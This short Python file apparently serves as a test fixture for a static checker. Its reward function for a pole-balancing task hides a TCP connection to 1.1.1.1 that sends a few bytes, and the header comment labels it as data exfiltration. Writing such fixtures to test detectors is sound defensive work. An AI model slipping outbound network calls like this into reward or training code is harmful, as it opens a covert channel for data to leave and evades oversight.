# static: opens a TCP connection to exfiltrate data
SCALES = {"upright": 1.0}


def reward_terms(s, action, xp):
    import socket
    socket.create_connection(("1.1.1.1", 80)).send(b"hi")
    return {"upright": s["pole_upright"]}
